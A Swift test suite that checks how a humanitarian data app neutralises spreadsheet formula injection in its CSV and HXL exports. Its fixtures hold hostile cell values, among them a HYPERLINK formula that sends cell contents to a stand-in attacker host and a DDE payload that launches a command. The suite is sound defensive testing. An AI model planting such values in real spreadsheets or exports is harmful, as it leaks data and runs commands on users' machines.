import Foundation
import Testing

@testable import PassageCore

/// Formula injection (issue 25, Docs/security.md): every CSV file Passage writes goes through
/// CSVCell, which neutralises a cell that a spreadsheet would run as a formula and leaves
/// numbers, codes and HXL hashtags machine-readable.
@Suite("CSV cells: formula injection")
struct CSVCellTests {
    static let hostile = [
        #"=HYPERLINK("https://evil.example/?"&A1,"call")"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "＝1+1",
    ]

    /// The fields of a file as a CSV reader sees them (RFC 4180, the directory's own parser).
    static func fields(_ lines: [String]) throws -> [[String]] {
        try CSVRecords.parse(lines.joined(separator: "\r\n") + "\r\n").map(\.fields)
    }

    /// No field may begin with a formula character unless it is a plain number.
    static func expectNoFormula(_ rows: [[String]], sourceLocation: SourceLocation = #_sourceLocation) {
        for field in rows.joined() {
            let runs = field.first.map { CSVCell.formulaStarts.contains($0) } ?? false
            #expect(!runs || CSVCell.isPlainNumber(field), "\(field) would run as a formula", sourceLocation: sourceLocation)
        }
    }

    @Test("a cell beginning =, +, -, @, tab or CR gets a quote in front and is quoted; reading gives it back")
    func hostileCellsAreNeutralised() throws {
        for text in Self.hostile {
            let written = CSVCell.field(text)
            #expect(written.hasPrefix("\"'"), "\(written)")
            let read = try Self.fields([written])
            #expect(read == [["'" + text]])
            #expect(CSVCell.reading(read[0][0]) == text)
        }
        // A formula behind a `;` or tab (separators a spreadsheet may guess) is inside quotes.
        #expect(CSVCell.field("clinic; =HYPERLINK(\"x\")") == "\"clinic; =HYPERLINK(\"\"x\"\")\"")
        #expect(CSVCell.field("a\t@SUM(A1)") == "\"a\t@SUM(A1)\"")
    }

    @Test("numbers, codes, dates, age bands and hashtags are written as they are")
    func machineReadableCellsStay() {
        for text in [
            "12", "-3", "0.25", "-0.5", "48.0", "", "CO-ANT", "2026-07", "2026-12-01", "60+", "18-59", "*", "unknown",
            "#affected+needs", "health;psychosocial", "LP-ND", "true",
        ] {
            #expect(CSVCell.field(text) == text)
            #expect(CSVCell.reading(text) == text)
        }
        // Not plain numbers: neutralised.
        for text in ["-", "-1-1", "-1e5", "-.5", "+5"] {
            #expect(CSVCell.field(text).hasPrefix("\"'"), "\(text)")
        }
    }

    @Test("writing then reading is the identity, also for texts that already begin with a quote")
    func readingUndoesExactlyTheGuard() {
        for text in Self.hostile + ["'=x", "''=x", "'plain", "'", "'-3", "-3", "it's", "x'=y"] {
            let read = try? Self.fields([CSVCell.field(text)])
            #expect(read.map { CSVCell.reading($0[0][0]) } == text, "\(text)")
        }
    }

    static let protections = [AppliedProtection(name: "small_cell_suppression", parameters: [.init("k", "5")])]

    @Test("STATS as CSV and HXL, and microdata: a hostile value in any column is neutralised")
    func statisticsAndMicrodata() throws {
        let table = PublishedTable(
            dimensions: ["area", "origin"],
            cells: Self.hostile.map { PublishedCell(values: [$0, "SY"], value: 12) }
                + [PublishedCell(values: ["CO-ANT", "VE"], value: nil)],
            protections: Self.protections)
        let export = StatisticsExport(
            unit: .cases, table: table, window: "2026-01-01..2026-12-01", release: "2026-12-01", epsilonSpent: 0,
            budgetLeft: nil, filters: [])
        for hxl in [false, true] {
            let rows = try Self.fields(StatisticsText.csvLines(export, hxl: hxl))
            Self.expectNoFormula(rows)
            let data = Array(rows.dropFirst(hxl ? 2 : 1))
            #expect(data.map { CSVCell.reading($0[0]) } == Self.hostile + ["CO-ANT"])
            // HXL adds the origin's ISO3 code after it (HXLPlaceColumns).
            #expect(data.last == ["CO-ANT", "VE"] + (hxl ? ["VEN"] : []) + ["", "true"], "a suppressed count stays an empty field")
            #expect(data.first?[hxl ? 3 : 2] == "12", "a count stays a number")
        }

        let microdata = MicrodataExport(
            microdata: AnonymisedMicrodata(
                columns: ["age_band", "area"], rows: Self.hostile.map { ["18-59", $0] }, levels: [0, 0],
                suppressedValues: 0, droppedRecords: 0, globalRisk: 0, protections: Self.protections),
            window: "2026", protections: Self.protections)
        let rows = try Self.fields(StatisticsText.microdataLines(microdata))
        Self.expectNoFormula(rows)
        #expect(rows.dropFirst().map { CSVCell.reading($0[1]) } == Self.hostile)
        #expect(rows.dropFirst().allSatisfy { $0[0] == "18-59" })
    }

    @Test("GAPS by provider as CSV and HXL: a provider named =HYPERLINK(…) is neutralised, figures stay numbers")
    func gapsByProvider() throws {
        let columns = GapColumn.columns(of: .overdue, dimensions: ["provider"])
        let published = PublishedGaps(
            columns: columns,
            rows: Self.hostile.map { [.text($0), .count(7), .figure(48.0), .figure(nil)] },
            protections: Self.protections, k: 5)
        for hxl in [false, true] {
            let rows = try Self.fields(GapsText.csvLines(published, kind: .overdue, hxl: hxl))
            Self.expectNoFormula(rows)
            if hxl { #expect(rows[1].first == "#org+provider") }
            let data = Array(rows.dropFirst(hxl ? 2 : 1))
            #expect(data.map { CSVCell.reading($0[0]) } == Self.hostile)
            #expect(data.allSatisfy { Array($0.dropFirst()) == ["7", "48.0", ""] })
        }
    }

    @Test("the provider directory: a hostile name or description is neutralised, and imports back unchanged")
    func providerDirectory() throws {
        let providers = Self.hostile.enumerated().map { index, text in
            ProviderRecord(
                id: Int64(index), name: text + " \(index)", status: "active", capacity: 3, minimumAge: nil,
                maximumAge: nil, description: "-" + text, services: ["health", "legal_aid"], areas: ["CO-ANT"])
        }
        let text = ProviderCSV.render(providers)
        let rows = try CSVRecords.parse(text).map(\.fields)
        Self.expectNoFormula(rows)
        #expect(rows.dropFirst().allSatisfy { $0[2] == "health;legal_aid" && $0[4] == "3" })
        let entries = try ProviderCSV.parse(text, knownServices: ["health", "legal_aid"])
        // Names are trimmed of spaces and tabs on import, as before; the rest comes back as written.
        #expect(entries.map(\.name) == providers.map(\.name.trimmingSpaces))
        #expect(entries.map(\.description) == providers.map(\.description))
    }
}
